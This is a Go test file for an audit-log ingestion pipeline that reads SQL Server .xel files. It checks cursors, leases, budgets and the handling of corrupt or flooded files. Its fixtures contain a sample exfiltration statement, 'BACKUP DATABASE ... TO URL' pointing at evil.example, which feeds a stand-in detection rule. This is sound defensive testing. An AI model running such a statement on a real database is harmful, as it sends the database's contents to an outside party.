package ingest

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xelwatch/xelwatch/detect"
	"github.com/xelwatch/xelwatch/xel"
	"github.com/xelwatch/xelwatch/xel/audit"
	"github.com/xelwatch/xelwatch/xel/xeltest"
)

const testBlob = "srv1/db1/SqlDbAuditing_ServerAudit/2026-11-21/20_31_39_123_0.xel"

var t0 = time.Date(2026, 11, 21, 20, 31, 40, 0, time.UTC)

// auditFile writes n audit records (every 7th a backup) in 4 KiB buffers
// over two partitions.
func auditFile(t testing.TB, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 4096, Partitions: 2})
	if err != nil {
		t.Fatal(err)
	}
	for i := range n {
		a := xeltest.AuditEvent{
			EventTime: t0.Add(time.Duration(i) * time.Second), ActionID: "BCM", ClassType: "DB", Succeeded: true,
			ServerPrincipalName: "app", ServerInstanceName: "srv1", DatabaseName: "db1",
			Statement: fmt.Sprintf("SELECT %d FROM dbo.orders -- %s", i, bytes.Repeat([]byte("x"), i%300)),
		}
		if i%7 == 3 {
			a.ActionID, a.Statement = "BA", fmt.Sprintf("BACKUP DATABASE db1 TO URL = 'https://evil.example/%d.bak' WITH COPY_ONLY", i)
		}
		if err := w.WriteAudit(a); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// backupRule is a stand-in Evaluator: one finding per BACKUP record, with
// a stable id.
type backupRule struct{ calls int }

func (b *backupRule) Evaluate(_ context.Context, r *audit.Record) ([]detect.Finding, error) {
	b.calls++
	if r.ActionID != "BA" {
		return nil, nil
	}
	return []detect.Finding{{DetectionID: "EXF-" + RowKey(r), Rule: "EXF-001", Severity: detect.High, Time: r.EventTime}}, nil
}

type fixture struct {
	blobs   *MemoryBlobs
	cursors *MemoryCursors
	rows    *MemoryRows
	eval    *backupRule
	p       *Pipeline
	seen    map[string]int // finding id → times emitted
}

func newFixture(t testing.TB, opt Options) *fixture {
	f := &fixture{blobs: NewMemoryBlobs(), cursors: NewMemoryCursors(), rows: NewMemoryRows(), eval: &backupRule{}, seen: map[string]int{}}
	f.p = New(f.blobs, f.cursors, f.rows, f.eval, XEL{}, nil, opt)
	return f
}

func (f *fixture) ingest(t testing.TB, ro RunOptions) Result {
	t.Helper()
	r, err := f.p.Ingest(context.Background(), testBlob, ro)
	if err != nil {
		t.Fatalf("Ingest: %v", err)
	}
	for _, fd := range r.Findings {
		f.seen[fd.DetectionID]++
	}
	return r
}

func wantBackups(n int) int {
	c := 0
	for i := range n {
		if i%7 == 3 {
			c++
		}
	}
	return c
}

func TestIngestAppendsInSteps(t *testing.T) {
	t.Parallel()
	const n = 400
	file := auditFile(t, n)
	cases := []struct {
		name  string
		steps []int // cut points
	}{
		{name: "whole", steps: []int{len(file)}},
		{name: "mid-buffer-cuts", steps: []int{100, 5000, 5001, 9000, 20000, len(file) - 10, len(file)}},
		{name: "byte-4096-multiples", steps: []int{4096, 8192, 3 * 4096, len(file)}},
		{name: "header-only-then-rest", steps: []int{10, len(file)}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t, Options{})
			prev := 0
			for _, cut := range tc.steps {
				f.blobs.Append(testBlob, file[prev:cut], t0)
				prev = cut
				r := f.ingest(t, RunOptions{Owner: "inv"})
				if r.Outcome == OutcomeFailed {
					t.Fatalf("cut %d: cursor failed: %s", cut, r.Cursor.LastError)
				}
			}
			if got := len(f.rows.Records()); got != n {
				t.Errorf("rows = %d, want %d", got, n)
			}
			c, err := f.cursors.Get(context.Background(), testBlob)
			if err != nil {
				t.Fatal(err)
			}
			if c.Offset != int64(len(file)) || c.State != StateOpen || c.Rows != n {
				t.Errorf("cursor = offset %d state %s rows %d, want %d open %d", c.Offset, c.State, c.Rows, len(file), n)
			}
			if got, want := len(f.seen), wantBackups(n); got != want {
				t.Errorf("distinct findings = %d, want %d", got, want)
			}
			// Nothing new: no decode, no cursor write.
			before := f.rows.Writes
			if r := f.ingest(t, RunOptions{}); r.Outcome != OutcomeUpToDate || f.rows.Writes != before {
				t.Errorf("re-run outcome %s, writes %d→%d; want up-to-date and no writes", r.Outcome, before, f.rows.Writes)
			}
		})
	}
}

func TestIngestReplayIsIdempotent(t *testing.T) {
	t.Parallel()
	file := auditFile(t, 120)
	var snapshots [][]string
	for range 3 {
		f := newFixture(t, Options{})
		f.blobs.Append(testBlob, file, t0)
		f.ingest(t, RunOptions{})
		var keys []string
		for _, r := range f.rows.Records() {
			keys = append(keys, RowKey(r)+"|"+r.Statement)
		}
		snapshots = append(snapshots, keys)
	}
	for i := 1; i < len(snapshots); i++ {
		if !slices.Equal(snapshots[0], snapshots[i]) {
			t.Fatalf("replay %d stored different rows", i)
		}
	}
}

func TestIngestCorruptFile(t *testing.T) {
	t.Parallel()
	file := auditFile(t, 200)
	bad := bytes.Clone(file)
	// Damage the header of the 4th event buffer (after the metadata).
	at := len(bad) / 2 / 4096 * 4096
	for i := at; i < at+64; i++ {
		bad[i] = 0xEE
	}
	f := newFixture(t, Options{})
	f.blobs.Append(testBlob, bad, t0)
	r := f.ingest(t, RunOptions{})
	if r.Outcome != OutcomeFailed {
		t.Fatalf("outcome = %s, want failed", r.Outcome)
	}
	c, _ := f.cursors.Get(context.Background(), testBlob)
	if c.State != StateFailed || c.LastError == "" || c.FailedOffset <= 0 {
		t.Fatalf("cursor = %+v, want failed with offset and reason", c)
	}
	stored := len(f.rows.Records())
	if stored == 0 || stored >= 200 {
		t.Errorf("rows = %d, want the records before the damage (0 < n < 200)", stored)
	}
	for _, rec := range f.rows.Records() {
		if rec.AuditFileOffset >= int64(at) {
			t.Errorf("stored a record at %d, past the damage at %d", rec.AuditFileOffset, at)
		}
	}
	// A later trigger on the failed blob does nothing (no retry storm).
	f.blobs.Append(testBlob, []byte{1}, t0)
	if r := f.ingest(t, RunOptions{}); r.Outcome != OutcomeFailed || r.Rows != 0 {
		t.Errorf("second run: %s, %d rows; want failed, 0", r.Outcome, r.Rows)
	}
}

func TestIngestTransientErrors(t *testing.T) {
	t.Parallel()
	file := auditFile(t, 300)
	boom := errors.New("503 server busy")
	cases := []struct {
		name   string
		inject func(f *fixture, fail *bool)
	}{
		{name: "blob-read", inject: func(f *fixture, fail *bool) {
			f.blobs.Fail = func(op, _ string) error {
				if op == "read" && *fail {
					return boom
				}
				return nil
			}
		}},
		{name: "rows", inject: func(f *fixture, fail *bool) {
			f.rows.Fail = func(string) error {
				if *fail {
					return boom
				}
				return nil
			}
		}},
		{name: "cursor-commit", inject: func(f *fixture, fail *bool) {
			n := 0
			f.cursors.Fail = func(op, _ string) error {
				if op == "update" && *fail {
					n++
					if n == 2 { // the claim passes, the commit fails
						return boom
					}
				}
				return nil
			}
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t, Options{})
			fail := true
			tc.inject(f, &fail)
			f.blobs.Append(testBlob, file, t0)
			if _, err := f.p.Ingest(context.Background(), testBlob, RunOptions{}); !errors.Is(err, boom) {
				t.Fatalf("Ingest err = %v, want the storage error", err)
			}
			c, _ := f.cursors.Get(context.Background(), testBlob)
			if c.Offset != 0 || c.State != StateOpen {
				t.Fatalf("cursor moved on failure: %+v", c)
			}
			fail = false
			r := f.ingest(t, RunOptions{})
			if r.Outcome != OutcomeRead {
				t.Fatalf("retry outcome = %s", r.Outcome)
			}
			if got := len(f.rows.Records()); got != 300 {
				t.Errorf("rows after retry = %d, want 300", got)
			}
			if c, _ := f.cursors.Get(context.Background(), testBlob); c.Rows != 300 {
				t.Errorf("cursor rows = %d, want 300 (not doubled)", c.Rows)
			}
		})
	}
}

func TestIngestBudget(t *testing.T) {
	t.Parallel()
	file := auditFile(t, 600)
	f := newFixture(t, Options{MaxBytesPerRun: 16 << 10})
	f.blobs.Append(testBlob, file, t0)
	runs := 0
	for {
		runs++
		r := f.ingest(t, RunOptions{})
		if r.Outcome != OutcomeMore {
			break
		}
		if runs > 1000 {
			t.Fatal("no progress")
		}
	}
	if runs < 3 {
		t.Errorf("runs = %d, want the budget to split the file", runs)
	}
	if got := len(f.rows.Records()); got != 600 {
		t.Errorf("rows = %d, want 600", got)
	}
}

// TestIngestFindingsBudget: a run stops after the batch that reached the
// findings budget (at most two batches past it: one was already in
// flight) and the next runs continue; every row and every finding
// arrives. Also when one buffer holds more records than a batch, where
// stopping inside the buffer would make no progress.
func TestIngestFindingsBudget(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name   string
		bufSiz int
	}{{"small buffers", 4096}, {"buffers larger than a batch", 1 << 20}} {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: tt.bufSiz})
			if err != nil {
				t.Fatal(err)
			}
			const n = 700
			for i := range n {
				if err := w.WriteAudit(xeltest.AuditEvent{EventTime: t0.Add(time.Duration(i) * time.Second), ActionID: "BA", ClassType: "DB",
					Succeeded: true, ServerInstanceName: "srv1", DatabaseName: "db1", Statement: fmt.Sprintf("BACKUP DATABASE db1 -- %d", i)}); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			f := newFixture(t, Options{BatchSize: 50, MaxFindings: 120})
			f.blobs.Append(testBlob, buf.Bytes(), t0)
			runs := 0
			for {
				runs++
				r := f.ingest(t, RunOptions{})
				if tt.bufSiz == 4096 && len(r.Findings) > 120+2*50 {
					t.Errorf("run %d: %d findings, want at most budget + two batches", runs, len(r.Findings))
				}
				if r.Outcome != OutcomeMore {
					break
				}
				if runs > 100 {
					t.Fatal("no progress")
				}
			}
			if tt.bufSiz == 4096 && runs < 4 {
				t.Errorf("runs = %d, want the findings budget to split the file", runs)
			}
			if got := len(f.rows.Records()); got != n {
				t.Errorf("rows = %d, want %d", got, n)
			}
			if len(f.seen) != n {
				t.Errorf("%d distinct findings, want %d", len(f.seen), n)
			}
			c, _ := f.cursors.Get(context.Background(), testBlob)
			if c.Offset != int64(buf.Len()) || c.Rows != n {
				t.Errorf("cursor at %d with %d rows, want %d and %d", c.Offset, c.Rows, buf.Len(), n)
			}
		})
	}
}

func TestIngestConcurrentClaim(t *testing.T) {
	t.Parallel()
	file := auditFile(t, 50)
	f := newFixture(t, Options{})
	f.blobs.Append(testBlob, file, t0)
	// The sweep claims the cursor between the trigger's Get and its claim.
	inside := false
	f.cursors.Fail = func(op, blob string) error {
		if op == "update" && !inside {
			inside = true
			c, err := f.cursors.Get(context.Background(), blob)
			if err != nil {
				return err
			}
			if _, err := f.cursors.Update(context.Background(), c); err != nil {
				return err
			}
		}
		return nil
	}
	if _, err := f.p.cursor(context.Background(), testBlob, Path{}); err != nil {
		t.Fatal(err)
	}
	r := f.ingest(t, RunOptions{Owner: "trigger"})
	if r.Outcome != OutcomeBusy {
		t.Fatalf("outcome = %s, want busy", r.Outcome)
	}
	if f.rows.Writes != 0 {
		t.Errorf("the losing run wrote %d rows, want 0", f.rows.Writes)
	}
	// The next run (the winner's, say) does the work.
	if r := f.ingest(t, RunOptions{Owner: "sweep"}); r.Rows != 50 {
		t.Errorf("rows = %d, want 50", r.Rows)
	}
}

func TestSweepDiscoversContinuesAndCloses(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 21, 23, 0, 0, 0, time.UTC)
	old := "srv1/db1/aud/2026-11-20/10_00_00_000_0.xel"
	cur := "srv1/db1/aud/2026-11-21/10_00_00_000_0.xel"
	ro := "srv1/db1/aud/2026-11-21/RO/10_00_00_000_0.xel"
	ancient := "srv1/db1/aud/2026-10-01/10_00_00_000_0.xel"
	file := auditFile(t, 80)
	f := newFixture(t, Options{Now: func() time.Time { return now }})
	for _, b := range []string{old, cur, ro, ancient} {
		f.blobs.Append(b, file, now)
	}
	r, err := f.p.Sweep(context.Background(), SweepOptions{Days: 2, IdleClose: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	if r.Discovered != 3 {
		t.Errorf("discovered = %d, want 3 (not the month-old folder)", r.Discovered)
	}
	if _, err := f.cursors.Get(context.Background(), ancient); !errors.Is(err, ErrNotFound) {
		t.Errorf("ancient blob got a cursor: %v", err)
	}
	if got := len(f.rows.Records()); got != 3*80 {
		t.Errorf("rows = %d, want %d", got, 3*80)
	}
	// Second sweep: old is superseded by cur → closed; cur and ro stay open.
	if _, err := f.p.Sweep(context.Background(), SweepOptions{Days: 2, IdleClose: time.Hour}); err != nil {
		t.Fatal(err)
	}
	want := map[string]State{old: StateClosed, cur: StateOpen, ro: StateOpen}
	for b, s := range want {
		c, _ := f.cursors.Get(context.Background(), b)
		if c.State != s {
			t.Errorf("%s state = %s, want %s", b, c.State, s)
		}
	}
	// Idle: two hours later without growth, the open ones close.
	now = now.Add(2 * time.Hour)
	if _, err := f.p.Sweep(context.Background(), SweepOptions{Days: 2, IdleClose: time.Hour}); err != nil {
		t.Fatal(err)
	}
	for _, b := range []string{cur, ro} {
		if c, _ := f.cursors.Get(context.Background(), b); c.State != StateClosed {
			t.Errorf("%s state = %s, want closed after idling", b, c.State)
		}
	}
	if got := len(f.rows.Records()); got != 3*80 {
		t.Errorf("rows after closing = %d, want %d", got, 3*80)
	}
}

func TestSweepDiscoveryInterval(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 21, 23, 0, 0, 0, time.UTC)
	first := "srv1/db1/aud/2026-11-21/10_00_00_000_0.xel"
	second := "srv1/db1/aud/2026-11-21/11_00_00_000_1.xel"
	file := auditFile(t, 10)
	f := newFixture(t, Options{Now: func() time.Time { return now }})
	so := SweepOptions{Days: 2, IdleClose: time.Hour, DiscoverEvery: time.Minute}
	sweep := func() SweepResult {
		t.Helper()
		r, err := f.p.Sweep(context.Background(), so)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	f.blobs.Append(first, file, now)
	if r := sweep(); r.Discovered != 1 {
		t.Fatalf("first sweep discovered %d, want 1 (a process's first sweep always lists)", r.Discovered)
	}
	f.blobs.Append(second, file, now)
	now = now.Add(30 * time.Second)
	if r := sweep(); r.Discovered != 0 {
		t.Errorf("sweep within the interval discovered %d, want 0 (no listing)", r.Discovered)
	}
	now = now.Add(31 * time.Second)
	if r := sweep(); r.Discovered != 1 {
		t.Errorf("sweep after the interval discovered %d, want 1", r.Discovered)
	}
	if got := len(f.rows.Records()); got != 20 {
		t.Errorf("rows = %d, want 20", got)
	}
}

func TestIngestLease(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	now := t0
	f := newFixture(t, Options{Lease: time.Minute, Now: func() time.Time { return now }})
	f.blobs.Append(testBlob, auditFile(t, 50), now)
	if _, err := f.cursors.Create(ctx, Cursor{Blob: testBlob, State: StateOpen, LeaseOwner: "other", LeaseUntil: now.Add(time.Minute)}); err != nil {
		t.Fatal(err)
	}
	if r := f.ingest(t, RunOptions{Owner: "me"}); r.Outcome != OutcomeBusy {
		t.Fatalf("outcome with another's lease = %s, want busy", r.Outcome)
	}
	if got := len(f.rows.Records()); got != 0 {
		t.Fatalf("rows stored while another run held the blob: %d", got)
	}
	now = now.Add(61 * time.Second) // the holder died: its lease expired
	if r := f.ingest(t, RunOptions{Owner: "me"}); r.Outcome != OutcomeRead {
		t.Fatalf("outcome after the lease expired = %s, want read", r.Outcome)
	}
	c, err := f.cursors.Get(ctx, testBlob)
	if err != nil {
		t.Fatal(err)
	}
	if c.LeaseOwner != "" || !c.LeaseUntil.IsZero() || c.Rows != 50 {
		t.Errorf("cursor after commit: owner %q until %v rows %d, want free and 50 rows", c.LeaseOwner, c.LeaseUntil, c.Rows)
	}
}

// A run that outlasts its lease keeps it by renewing: a competing run that
// starts in the middle (here: from inside the row upserts, with the clock
// long past the first lease) finds the blob busy, and the first run's
// commit stands.
func TestIngestLeaseRenewedDuringLongRun(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	var mu sync.Mutex
	now := t0
	clock := func() time.Time {
		mu.Lock()
		defer mu.Unlock()
		return now
	}
	f := newFixture(t, Options{Lease: time.Minute, BatchSize: 10, Now: clock})
	f.blobs.Append(testBlob, auditFile(t, 300), t0)
	var competitor []Outcome
	upserts := 0
	f.rows.Fail = func(string) error { // each upsert takes 20 s
		mu.Lock()
		now = now.Add(20 * time.Second)
		mu.Unlock()
		upserts++
		if upserts == 20 { // 400 s into a run whose first lease was 60 s
			r, err := f.p.Ingest(ctx, testBlob, RunOptions{Owner: "competitor"})
			if err != nil {
				return err
			}
			competitor = append(competitor, r.Outcome)
		}
		return nil
	}
	r := f.ingest(t, RunOptions{Owner: "long"})
	if r.Outcome != OutcomeRead {
		t.Fatalf("long run outcome = %s, want read (its commit must stand)", r.Outcome)
	}
	if len(competitor) != 1 || competitor[0] != OutcomeBusy {
		t.Errorf("competitor outcomes = %v, want [busy]", competitor)
	}
	if c, _ := f.cursors.Get(ctx, testBlob); c.Rows != 300 || c.LeaseOwner != "" {
		t.Errorf("cursor rows %d owner %q, want 300 and free", c.Rows, c.LeaseOwner)
	}
}

// A run that fails while storage is down cannot release its lease. The
// same process may take the blob over at once (it knows the run is dead);
// another process sharing the cursors waits for the lease to expire.
func TestIngestAbandonedLease(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	now := t0
	clock := func() time.Time { return now }
	f := newFixture(t, Options{Lease: time.Minute, Now: clock})
	f.blobs.Append(testBlob, auditFile(t, 40), now)
	down := false
	updates := 0
	f.cursors.Fail = func(op, _ string) error {
		if op == "update" {
			updates++
			if updates >= 2 && down { // the claim passes; commit and release fail
				return errors.New("503 server busy")
			}
		}
		return nil
	}
	down = true
	if _, err := f.p.Ingest(ctx, testBlob, RunOptions{Owner: "inv-1"}); err == nil {
		t.Fatal("Ingest with storage down: no error")
	}
	down = false
	other := New(f.blobs, f.cursors, f.rows, f.eval, XEL{}, nil, Options{Lease: time.Minute, Now: clock})
	if r, err := other.Ingest(ctx, testBlob, RunOptions{Owner: "inv-2"}); err != nil || r.Outcome != OutcomeBusy {
		t.Fatalf("another process: outcome %s err %v, want busy until the lease expires", r.Outcome, err)
	}
	if r := f.ingest(t, RunOptions{Owner: "inv-3"}); r.Outcome != OutcomeRead {
		t.Fatalf("same process after its run died: outcome %s, want read", r.Outcome)
	}
	if c, _ := f.cursors.Get(ctx, testBlob); c.Rows != 40 || c.LeaseOwner != "" {
		t.Errorf("cursor rows %d owner %q, want 40 and free", c.Rows, c.LeaseOwner)
	}
}

// Azure SQL Database cuts statements at 4000 characters where SQL Server
// splits them into continued records, so a record at the limit may never
// be continued. It must be stored and evaluated on the run that reads it,
// not when 64 more buffers have been written; the cursor still waits at
// its buffer (a continuation may come) and rereading it doubles nothing.
func TestIngestRecordAtTheLimit(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 16384})
	if err != nil {
		t.Fatal(err)
	}
	backup := "BACKUP DATABASE db1 TO URL = 'https://evil.example/db1.bak' WITH COPY_ONLY"
	recs := []xeltest.AuditEvent{
		{EventTime: t0, ActionID: "BCM", ClassType: "DB", Succeeded: true, Statement: "SELECT 1"},
		{EventTime: t0.Add(time.Second), ActionID: "BA", ClassType: "DB", Succeeded: true,
			Statement: strings.Repeat(" ", 4000-len(backup)) + backup},
	}
	for _, a := range recs {
		if err := w.WriteAudit(a); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	f := newFixture(t, Options{})
	f.blobs.Append(testBlob, buf.Bytes(), t0)
	r := f.ingest(t, RunOptions{})
	if got := len(r.Findings); got != 1 {
		t.Fatalf("findings on the first run = %d, want 1 (the backup at the limit)", got)
	}
	if got := len(f.rows.Records()); got != 2 {
		t.Fatalf("rows = %d, want 2", got)
	}
	c, _ := f.cursors.Get(context.Background(), testBlob)
	if c.Offset >= int64(buf.Len()) {
		t.Errorf("cursor offset %d, want it waiting at the buffer of the record at the limit (before %d)", c.Offset, buf.Len())
	}
	// More of the file arrives; the waiting record is read again.
	if err := w.WriteAudit(xeltest.AuditEvent{EventTime: t0.Add(2 * time.Second), ActionID: "BCM", ClassType: "DB", Succeeded: true, Statement: "SELECT 2"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	f.blobs.Append(testBlob, buf.Bytes()[c.BlobLength:], t0.Add(time.Minute))
	f.ingest(t, RunOptions{})
	if got := len(f.rows.Records()); got != 3 {
		t.Errorf("rows after the reread = %d, want 3 (nothing doubled)", got)
	}
	for id, n := range f.seen {
		if n > 2 {
			t.Errorf("finding %s emitted %d times", id, n)
		}
	}
}

// metadataFlood is an xeltest.Flood of packages × events without its
// file header, to append to an audit file.
func metadataFlood(t testing.TB, packages, events int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := xeltest.WriteFlood(&b, xeltest.Flood{Packages: packages, Events: events}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()[xeltest.FileHeaderSize:]
}

// A file declaring more metadata than the decoder's limits (issue 9:
// 48 packages × 65,536 empty events took ~400 MB per AuditBlob call) is
// poison input: its cursor fails with the limit and the offset, the rows
// before it are kept, the invocation succeeds (no host retry), and later
// triggers leave it alone — at the start of the file (the leading
// metadata, read when the reader opens) as in the middle.
func TestIngestMetadataFlood(t *testing.T) {
	t.Parallel()
	events := auditFile(t, 50)
	flood := metadataFlood(t, 2, 20000) // 40,000 event definitions; the limit is 16,384
	for _, tc := range []struct {
		name string
		file []byte
		rows int
		at   int64 // the cursor's FailedOffset
	}{
		{"leading", append(bytes.Clone(events[:xeltest.FileHeaderSize]), flood...), 0, xeltest.FileHeaderSize},
		{"after events", append(bytes.Clone(events), flood...), 50, int64(len(events))},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, Options{})
			f.blobs.Append(testBlob, tc.file, t0)
			r, err := f.p.Ingest(context.Background(), testBlob, RunOptions{})
			if err != nil {
				t.Fatalf("Ingest: %v (poison input must not fail the invocation)", err)
			}
			if r.Outcome != OutcomeFailed {
				t.Fatalf("outcome = %s, want failed", r.Outcome)
			}
			c, _ := f.cursors.Get(context.Background(), testBlob)
			if c.State != StateFailed || c.FailedOffset != tc.at || !strings.Contains(c.LastError, "over the limit MaxEvents (16384) at offset") {
				t.Errorf("cursor = %+v, want failed at %d (the flood's first buffer), naming MaxEvents", c, tc.at)
			}
			if got := len(f.rows.Records()); got != tc.rows {
				t.Errorf("rows = %d, want %d (every record before the flood)", got, tc.rows)
			}
			f.blobs.Append(testBlob, flood, t0.Add(time.Minute))
			if r := f.ingest(t, RunOptions{}); r.Outcome != OutcomeFailed || r.Rows != 0 {
				t.Errorf("next trigger: %s, %d rows; want failed, 0", r.Outcome, r.Rows)
			}
		})
	}
}

// A file of more metadata buffers than the decoder merges fails the
// cursor, so that the cursor never holds more offsets than the store
// takes (store.MaxMetadataOffsets = xel.DefaultMaxMetadataBuffers):
// otherwise its commit would fail on every run, a retry storm.
func TestIngestTooManyMetadataBuffers(t *testing.T) {
	t.Parallel()
	events := auditFile(t, 10)
	file := bytes.Clone(events)
	empty := make([]byte, 512) // a metadata buffer without packages
	binary.LittleEndian.PutUint16(empty[0x0C:], xeltest.FormatVersion)
	binary.LittleEndian.PutUint16(empty[0x0E:], 1)
	binary.LittleEndian.PutUint32(empty[0x10:], 512)
	binary.LittleEndian.PutUint16(empty[0x16:], xeltest.MetadataDataOffset)
	for range xel.DefaultMaxMetadataBuffers + 5 {
		file = append(file, empty...)
	}
	f := newFixture(t, Options{})
	f.blobs.Append(testBlob, file, t0)
	if r := f.ingest(t, RunOptions{}); r.Outcome != OutcomeFailed {
		t.Fatalf("outcome = %s, want failed", r.Outcome)
	}
	c, _ := f.cursors.Get(context.Background(), testBlob)
	if c.State != StateFailed || !strings.Contains(c.LastError, "MaxMetadataBuffers") || len(c.MetadataOffsets) > xel.DefaultMaxMetadataBuffers {
		t.Errorf("cursor state %s, %d metadata offsets, error %q; want failed naming MaxMetadataBuffers, at most %d offsets",
			c.State, len(c.MetadataOffsets), c.LastError, xel.DefaultMaxMetadataBuffers)
	}
	if got := len(f.rows.Records()); got != 10 {
		t.Errorf("rows = %d, want 10", got)
	}
}

// sizingRows is a Rows that keeps nothing and records the largest batch.
type sizingRows struct {
	mu       sync.Mutex
	rows     int
	maxBytes int // of object_name, the column the test makes large
}

func (s *sizingRows) Upsert(_ context.Context, _ Path, _ string, recs []*audit.Record) error {
	n := 0
	for _, r := range recs {
		n += len(r.ObjectName)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.rows += len(recs)
	s.maxBytes = max(s.maxBytes, n)
	return nil
}

// A batch is handed on at DefaultBatchBytes as well as at BatchSize
// records: records a file makes large (here a 150,000-character
// object_name each) must not pile up 500 at a time in the run's memory.
func TestIngestBatchBytes(t *testing.T) {
	t.Parallel()
	const n, size = 60, 150_000
	var buf bytes.Buffer
	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 512 << 10})
	if err != nil {
		t.Fatal(err)
	}
	for i := range n {
		if err := w.WriteAudit(xeltest.AuditEvent{EventTime: t0.Add(time.Duration(i) * time.Second), ActionID: "SL", ClassType: "U",
			Succeeded: true, ObjectName: strings.Repeat("o", size), Statement: "SELECT 1"}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows := &sizingRows{}
	blobs := NewMemoryBlobs()
	blobs.Append(testBlob, buf.Bytes(), t0)
	p := New(blobs, NewMemoryCursors(), rows, nil, XEL{}, nil, Options{})
	if _, err := p.Ingest(context.Background(), testBlob, RunOptions{}); err != nil {
		t.Fatal(err)
	}
	if rows.rows != n {
		t.Fatalf("stored %d rows, want %d", rows.rows, n)
	}
	if rows.maxBytes > DefaultBatchBytes+size {
		t.Errorf("a batch held %d bytes of object_name, over %d (DefaultBatchBytes and one record)", rows.maxBytes, DefaultBatchBytes+size)
	}
}

// TestSweepHoldsBackStreamAfterFailure: the open files of an audit stream
// are continued oldest first, and one that fails holds back the later
// ones of its stream (not other streams) until the next sweep.
func TestSweepHoldsBackStreamAfterFailure(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 21, 23, 0, 0, 0, time.UTC)
	first := "srv1/db1/aud/2026-11-21/9_00_00_000_0.xel"
	second := "srv1/db1/aud/2026-11-21/10_00_00_000_1.xel"
	other := "srv2/db1/aud/2026-11-21/10_00_00_000_0.xel"
	file := auditFile(t, 20)
	f := newFixture(t, Options{Now: func() time.Time { return now }})
	so := SweepOptions{Days: 2, IdleClose: 10 * time.Hour}
	for _, b := range []string{first, other} {
		f.blobs.Append(b, file[:100], now) // header only: cursors open, nothing read
	}
	if _, err := f.p.Sweep(context.Background(), so); err != nil {
		t.Fatal(err)
	}
	// The first file gets its records and rolls over to the second (a
	// file discovered beside a newer one is complete and read as final,
	// so the second appears only now).
	for _, b := range []string{first, other} {
		f.blobs.Append(b, file[100:], now)
	}
	f.blobs.Append(second, file, now)
	var order []string
	down := true
	f.rows.Fail = func(blob string) error {
		if down && blob == first {
			return errors.New("storage down")
		}
		order = append(order, blob)
		return nil
	}
	if _, err := f.p.Sweep(context.Background(), so); err == nil {
		t.Fatal("sweep with a failing blob: no error")
	}
	if !slices.Equal(order, []string{other}) {
		t.Errorf("first sweep stored %q, want only the other stream's blob", order)
	}
	down, order = false, nil
	if _, err := f.p.Sweep(context.Background(), so); err != nil {
		t.Fatal(err)
	}
	if want := []string{first, second}; !slices.Equal(order, want) {
		t.Errorf("second sweep stored %q, want %q (oldest first)", order, want)
	}
}
